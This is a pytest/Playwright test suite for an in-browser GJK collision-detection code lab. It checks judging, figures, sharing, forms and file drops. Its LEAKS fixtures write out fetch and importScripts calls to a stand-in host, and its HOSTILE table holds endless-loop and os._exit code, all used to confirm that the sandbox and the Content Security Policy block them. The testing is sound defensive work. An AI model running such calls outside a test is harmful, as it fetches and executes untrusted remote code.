"""The lab: the reader's code runs in the page, its first miss is a figure, and whatever it does, the page goes on."""

from __future__ import annotations

import json
from urllib.parse import parse_qs, quote, urlencode

import pytest
import runs
from axe import violations
from extent import some

import gjkcore as gjk
from browsers import address_now, until
from figure import Figure

PHONE = {"viewport": (360, 640), "has_touch": True, "is_mobile": True}
VERDICTS = "Wrong|Right|Not wrong|Stopped|Your code|The judge"
DONE = f"() => /^({VERDICTS})/.test(document.querySelector('#status').textContent)"
PATIENCE_MS = 120_000

RIGHT = """
import gjkcore as gjk

def intersects(a, b):
    return gjk.intersects(gjk.Polygon(a), gjk.Polygon(b))
"""


@pytest.fixture
def lab(new_page):
    """The lab as an earlier test has left it: its Python runs already. What a test asks takes the place of what was
    asked before."""
    page = new_page(stay="lab.html")
    page.locator(".cm-content").wait_for()
    return page


def open_lab(page):
    page.goto("lab.html")
    page.locator(".cm-content").wait_for()
    return page


def choose(page, start: str):
    page.locator("#controls select:has(optgroup)").select_option(start)
    return page


def link_to(code: str, language: str = "python") -> str:
    return f"lab.html#{urlencode({'language': language, 'code': code}, quote_via=quote)}"


def run(page) -> str:
    """Presses Run and returns what the judge says in the end."""
    page.locator("body").get_by_role("button", name="Run", exact=True).click()
    until(page, DONE)
    return page.locator("#status").inner_text()


def show(page, code: str, language: str = "python") -> None:
    """Opens the link of a code in a page that shows another."""
    page.evaluate("hash => { location.hash = hash }", link_to(code, language).partition("#")[2])
    until(page, "text => document.querySelector('.cm-content').textContent === text", code.replace("\n", ""))


def said_of(page, code: str, language: str = "python") -> str:
    """What the judge says of a code."""
    show(page, code, language)
    return run(page)


def marked(page) -> list[str]:
    """The texts at which the editor shows an error."""
    return page.locator(".cm-lintRange-error").all_inner_texts()


@pytest.mark.thorough
@pytest.mark.every_engine
def test_a_miss_is_a_figure(lab):
    """The code of winter.dev misses an overlap. The page shows the small pair with the robust method's answer, the
    exact answer with its proof, and the text of an issue whose link opens the pair in the playground."""
    hold_miss(lab, "winter")


@pytest.mark.thorough
@pytest.mark.every_engine
def test_a_miss_of_javascript_is_a_figure(lab):
    """The same of a textbook's code in JavaScript, which is of the plane also after a code for space."""
    choose(lab, "gjk3d.js")
    hold_miss(lab, "textbook-js")


def hold_miss(page, start: str) -> None:
    assert run(choose(page, start)).startswith("Wrong: it says that the shapes do not intersect.")
    figure = Figure(page).live()
    assert figure.answer["result"]["state"] == "intersecting"
    assert max(len(shape["vertices"]) for shape in figure.scene["shapes"]) <= 3
    assert "Proof: " in page.locator("#miss").inner_text()
    hold_steps(page)
    issue = page.locator("#miss pre").inner_text()
    assert "do not intersect" in issue and "```json" in issue
    address = page.locator("#miss a[href*='play.html']").evaluate("link => link.href")
    assert address.partition("?")[0] == page.url.partition("#")[0].replace("lab.html", "play.html")
    assert json.loads(parse_qs(address.partition("?")[2])["scene"][0])["shapes"] == figure.scene["shapes"]


def first_shapes(page):
    return page.locator("#steps gjk-demo").evaluate("(figure) => figure.scene.shapes")


def hold_steps(page) -> None:
    """The figure below the miss has the steps of the code's own `step` on the same pair, and runs them again after a
    change."""
    page.locator("#steps gjk-demo").wait_for()
    until(page, "document.querySelector('#steps gjk-demo').answer")
    own = page.locator("#steps gjk-demo")
    first = own.evaluate("(figure) => figure.answer")
    assert "is the first wrong one" in page.locator("#steps p").first.inner_text()  # the code is wrong here
    assert own.evaluate("(figure) => figure.step") == first["wrong_at"]
    lines = page.locator("#steps pre").text_content().splitlines()
    assert len(lines) == len(first["trace"]["steps"]) + 1 and json.loads(lines[0])["shapes"] == first_shapes(page)
    assert first["trace"]["method"] == "yours" and first["trace"]["intersects"] is False
    assert first["result"]["state"] == "intersecting"
    own.evaluate(
        """(figure) => {
            const [a, b] = structuredClone(figure.scene.shapes);
            for (const point of b.vertices) point[0] += 100;
            figure.scene = { ...figure.scene, shapes: [a, b] };
        }"""
    )
    until(page, "document.querySelector('#steps gjk-demo').answer?.result.state === 'separated'")
    assert own.evaluate("(figure) => figure.answer.trace.method") == "yours"


def test_a_right_code_has_no_miss_and_can_be_stopped(lab):
    """While the judge finds no miss it says how many pairs it has asked of each group, and Stop ends the search."""
    page = lab
    show(page, RIGHT)
    page.get_by_role("button", name="Run", exact=True).click()
    page.wait_for_function(
        """() => /^\\d+ pairs asked, \\d+ a second, no miss so far$/.test(
        document.querySelector("#status").textContent)""",
        timeout=PATIENCE_MS,
    )
    until(page, "[...document.querySelectorAll('.groups b')].length === 12")
    page.get_by_role("button", name="Stop").click()
    assert page.locator("#status").inner_text().startswith("Stopped after ")
    assert page.get_by_role("button", name="Run", exact=True).is_visible()


LOOP = "function intersects(a, b) {\n  for (;;) {\n    console.log(a);\n    postMessage(a);\n  }\n}\n"
HOSTILE = {
    "while": (
        "python",
        "def intersects(a, b):\n    while True: print(a)\n",
        "no answer within 2 s (line 2)",
        "print(a)",
    ),
    "os._exit": ("python", "import os\ndef intersects(a, b):\n    os._exit(3)\n", "its worker ended", ""),
    "for": ("javascript", LOOP, "no answer within 2 s", ""),
    "[99]": ("javascript", "const intersects = (a) => {\n  return a[99].x;\n};\n", "TypeError", "return a[99].x;"),
}
"""A loop of a step is in each run, below."""


@pytest.mark.thorough
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_codes(lab, name):
    """Endless loops, endless printing, an exception and a worker that ends itself are findings. The editor shows the
    line where there is one. The page goes on with the next code."""
    language, code, words, at = HOSTILE[name]
    assert words in said_of(lab, code, language)
    assert bool(marked(lab)) == bool(at) and at in "".join(marked(lab))
    assert lab.locator("iframe").count() == 0


BAD_STEPS = {
    "python": {
        "def step(simplex, d):\n    return simplex[7]\n": ("step raised IndexError", "return simplex[7]"),
        "def step(simplex, d):\n    while True: print(d)\n": ("no answer within 2 s", "print(d)"),
    },
    "javascript": {
        "const step = (simplex) => {\n  return simplex[7].x;\n};\n": ("step threw TypeError", "return simplex[7].x;"),
        "function step() { for (;;); }\n": ("no answer within 2 s", ""),
        "function step(simplex, d) { return [[[9, 9]], d]; }\n": ("is not one of the points", ""),
    },
}
WRONG = {
    "python": "def intersects(a, b):\n    return False\n",
    "javascript": "function intersects() { return false; }\n",
}


@pytest.mark.thorough
@pytest.mark.parametrize("language", BAD_STEPS)
def test_steps_that_are_none(lab, language):
    """A step that raises, loops, or keeps a point that it was not given is words, and the editor shows the line where
    there is one. No figure is drawn."""
    for code, (words, at) in BAD_STEPS[language].items():
        said_of(lab, code + WRONG[language], language)
        until(lab, "words => document.querySelector('#steps').textContent.includes(words)", words)
        assert lab.locator("#steps gjk-demo").count() == 0
        assert bool(marked(lab)) == bool(at) and at in "".join(marked(lab)), code


LEAKS = {
    "python": "import js\ntry:\n    js.fetch('http://192.0.2.1/x')\n    js.eval('1')\nexcept BaseException:\n    pass\n"
    "def intersects(a, b):\n    return a\n",
    "javascript": "fetch('http://192.0.2.1/x').catch(() => {});\n"
    "try { importScripts('http://192.0.2.1/x.js') } catch {}\nfunction intersects(a) { return a; }\n",
}


@pytest.mark.parametrize("language", some(LEAKS, "javascript"))
def test_code_reaches_no_other_host(lab, problems, language):
    """What code asks of another host is refused by the page's policy: no request leaves the browser."""
    problems.allow("violates the following Content Security Policy|policy violated|Failed to fetch")
    problems.allow("Refused to connect|ERR_BLOCKED_BY_CSP")
    sent: list[str] = []
    lab.context.on("requestfinished", lambda request: sent.append(request.url))
    assert "which is neither" in said_of(lab, LEAKS[language], language)
    assert not [url for url in sent if "192.0.2.1" in url]


def test_code_of_a_link_is_shown_and_does_not_run(page):
    """The code of a link is in the editor, with words that say where it comes from, and nothing runs: no worker starts
    before Run is pressed."""
    page.goto(link_to("def intersects(a, b):\n    raise SystemExit\n"))
    until(page, "document.querySelector('.cm-content').textContent.includes('SystemExit')")
    assert "came with a link" in page.locator("#received").inner_text()
    assert page.locator("#status").inner_text() == "Nothing has been run yet."
    assert not [worker.url for worker in page.workers if worker.url.startswith("blob:")]


@pytest.mark.thorough
def test_code_is_in_the_address_only_when_asked(new_page):
    """Typing leaves the address alone. Share writes the code into it, and the address opens the same code elsewhere."""
    page = open_lab(new_page(permissions=["clipboard-read", "clipboard-write"]))
    page.locator(".cm-content").click()
    page.keyboard.press("ControlOrMeta+a")
    page.keyboard.type("def intersects(a, b): return 1 < 2")
    assert "#" not in page.url
    page.get_by_role("button", name="Share").click()
    until(page, "document.querySelector('#shared').textContent !== ''")
    other = new_page()
    other.goto(address_now(page))
    until(other, "document.querySelector('.cm-content').textContent === 'def intersects(a, b): return 1 < 2'")


def test_keys_alone(lab):
    """By keys alone a reader chooses a start, leaves the editor with Tab, and presses Run."""
    page = choose(lab, "winter")
    page.get_by_label("Start from").focus()
    page.keyboard.type("An empty")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.classList.contains('cm-content')")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent.trim()") == "Run"
    page.keyboard.press("Enter")
    page.wait_for_function(DONE, timeout=PATIENCE_MS)
    assert page.locator("#status").inner_text().startswith("Wrong: it says that the shapes do not intersect.")


@pytest.mark.thorough
@pytest.mark.parametrize(
    "options",
    [
        pytest.param({"viewport": (360, 640)}, id="narrow"),
        pytest.param(PHONE, id="phone", marks=pytest.mark.thorough),
        pytest.param({}, id="desk", marks=pytest.mark.thorough),
    ],
)
def test_no_violations(new_page, options):
    """The page with a miss is free of violations, in the light and in the dark, and nothing is wider than a phone."""
    page = choose(new_page(stay="lab.html", **options), "textbook-js")
    assert violations(page) == []
    run(page)
    Figure(page).live()
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        assert violations(page) == [], scheme
    page.emulate_media(color_scheme="null")
    assert page.evaluate("document.documentElement.scrollWidth <= Math.min(innerWidth, screen.width)")


def test_no_other_page_loads_the_lab(dist):
    """The editor, the judge and the whole Python are in files that only lab.html names, and no service worker
    stores."""
    names = [path.name for path in (dist / "assets").iterdir() if path.name.startswith(("lab", "judge"))]
    assert len(names) >= 4
    texts = {path: path.read_text(encoding="utf-8") for path in (*dist.glob("*.html"), dist / "offline.js")}
    assert {path.name for path, text in texts.items() if any(name in text for name in names)} == {"lab.html"}
    assert '"lab.html"' not in texts[dist / "offline.js"]


SAID = "words => document.querySelector('#pasted-status').textContent.includes(words)"
CASE = {"a": {"type": "polygon", "vertices": [[0, 0], [2, 0], [1, 2]]}, "b": {"type": "point", "p": [1, 1]}}


def test_json_of_two_shapes_is_a_figure(lab):
    """A scene or a case as JSON becomes a figure of all methods with the exact answer. Any other text is refused in
    words, and the page goes on."""
    box, press = lab.locator("#report"), lab.get_by_role("button", name="Read the text")
    box.fill("a = [(0, 0), (2, 0), (1, 2)]")
    press.click()
    lab.wait_for_function(SAID, arg="The scene must be JSON", timeout=PATIENCE_MS)
    box.fill(json.dumps(CASE))
    press.click()
    until(lab, "document.querySelector('#pasted gjk-demo')?.scene?.shapes[1].p?.[1] === 1")
    figure = Figure(lab, lab.locator("gjk-demo").count() - 1).live()
    assert len(figure.answer["runs"]) >= 5 and figure.answer["result"]["state"] == "intersecting"
    assert "The shapes intersect: their penetration depth is" in lab.locator("#pasted").inner_text()


A = gjk.Polygon([(0, 0), (4, 0), (4, 3), (0, 3)])
B = gjk.Polygon([(2.5, 1.1), (7, 0.2), (6, 4)])


def test_a_pasted_run_is_drawn_at_its_first_wrong_step(lab):
    """A run is judged in words, and its figure opens at the first wrong step. Without shapes there is no figure, and
    what was not judged is said. A text that is no run is refused with its line."""
    rows = runs.rows(A, B, gjk.trace(A, B, method="winter"), False)
    wrong = [rows[0], rows[1], rows[2] | {"direction": [-x for x in rows[2]["direction"]]}, *rows[3:]]
    box, press = lab.locator("#report"), lab.get_by_role("button", name="Read the text")
    box.fill(runs.text(wrong))
    press.click()
    lab.wait_for_function(SAID, arg="Line 3 is the first wrong one: its direction does not look", timeout=PATIENCE_MS)
    until(lab, "document.querySelector('#pasted gjk-demo')?.answer?.trace.method === 'yours'")
    own = lab.locator("#pasted gjk-demo")
    assert own.evaluate("(figure) => [figure.step, figure.answer.trace.steps.length]") == [1, len(rows) - 1]
    assert own.locator("[part~=caption]").inner_text().startswith("Here the run goes wrong.")
    own.evaluate("(figure) => { figure.scene = { ...figure.scene, shapes: figure.scene.shapes.toReversed() } }")
    lab.get_by_text("the run was printed for the shapes as they were").first.wait_for()
    lab.evaluate(DROP, {"run.jsonl": runs.text([{"shapes": None}, *rows[1:]])})
    lab.wait_for_function(SAID, arg=f"No line is wrong. Iterations: {len(rows) - 1}. Support points and the verdict")
    assert lab.locator("#pasted gjk-demo").count() == 0
    box.fill('{"shapes": null}\n{"piont": [1, 1]}')
    press.click()
    lab.wait_for_function(SAID, arg="Line 2: 'piont' is not known")


def form(page, name: str):
    return page.locator("#form fieldset").filter(has=page.locator("legend", has_text=name)).first


DISTANCE = "document.querySelector('#pasted gjk-demo')?.answer?.result?.signed_distance"


def test_two_shapes_in_a_form(lab):
    """The fields of a form are those of the type that is chosen. A turned box beside a sphere, and points of the plane,
    become a figure; a mark that is not read is named with its line, and Python says what is wrong with a number."""
    press = lab.get_by_role("button", name="Show the two shapes")
    lab.locator("#form").get_by_label("Shapes").select_option("3")
    a, b = form(lab, "A"), form(lab, "B")
    a.get_by_label("Type").select_option("box")
    a.get_by_label("Center: x y z").fill("0, 0, 0")
    a.get_by_label("Half extents").fill("(3 1 1)")
    a.get_by_label("The rotation is").select_option("xyzw")
    a.get_by_label("Rotation, or nothing").fill("0 0 1 1")
    b.get_by_label("Center").fill("0 5 0")
    press.click()
    until(lab, f"Math.abs({DISTANCE} - 1) < 1e-12")
    b.get_by_label("Radius").fill("-1")
    press.click()
    lab.wait_for_function(SAID, arg="B.radius must be", timeout=PATIENCE_MS)
    lab.locator("#form").get_by_label("Shapes").select_option("2")
    vertices = a.get_by_label("Vertices: x y, one a line")
    vertices.fill("0 0\n2 1/3\n1 2")
    press.click()
    lab.wait_for_function(SAID, arg="A, vertices, line 2: “2 1/3” is not a point of two numbers")
    vertices.fill("[0, 0],\n[2, 0],\n[1, 2]")
    b.get_by_label("Type").select_option("rounded")
    inner = b.locator("fieldset")
    inner.get_by_label("P: x y").fill("4 -1")
    inner.get_by_label("Q: x y").fill("4 1")
    b.get_by_label("Radius").fill("0.5")
    press.click()
    until(lab, f"Math.abs({DISTANCE} - 1.5) < 1e-12")


CUBE = "\n".join(f"v {x} {y} {z}" for x in (0, 2) for y in (0, 2) for z in (0, 2))
TETRAHEDRON = """ply
format ascii 1.0
element vertex 5
property float x
property float y
property float z
end_header
5 0 0
7 0 0
5 2 0
5 0 2
5.1 0.1 0.1
"""
DROP = """(texts) => {
    const dataTransfer = new DataTransfer();
    for (const [name, text] of Object.entries(texts)) dataTransfer.items.add(new File([text], name));
    document.body.dispatchEvent(new DragEvent("drop", { dataTransfer, bubbles: true, cancelable: true }));
}"""


def test_files_that_are_dropped_are_a_figure(lab):
    """Two files that are dropped, together or one after the other, become the hulls of their points, with all methods
    and the exact answer. A file that cannot be read is words, and the figure stays. A file that is no mesh is a
    text."""
    page = lab
    page.evaluate(DROP, {"cube.obj": CUBE, "tetra.ply": TETRAHEDRON})
    until(page, SAID, "A: the hull of cube.obj, with 8 points and 8 corners")
    assert "B: the hull of tetra.ply, with 5 points and 4 corners" in page.locator("#pasted-status").inner_text()
    page.get_by_text("their distance is 3.0").first.wait_for()
    page.evaluate(DROP, {"bad.obj": "v 0 0 0\nv 1 one 0\n"})
    until(page, SAID, "bad.obj cannot be read")
    page.evaluate(DROP, {"bad.glb": "glTF"})
    until(page, SAID, "Drop one or two OBJ, STL or PLY files")
    assert "their distance is 3.0" in page.locator("#pasted").inner_text()
    page.get_by_label("Or drop one or two files").set_input_files(
        {"name": "cube.obj", "mimeType": "model/obj", "buffer": CUBE.encode()}
    )
    until(page, SAID, "Drop or choose a second file for B")
    page.evaluate(DROP, {"cube.obj": CUBE})
    page.get_by_text("their penetration depth is 2.0").first.wait_for()
    page.evaluate(DROP, {"case.json": json.dumps(CASE)})
    until(page, SAID, "A: polygon of 3 points")
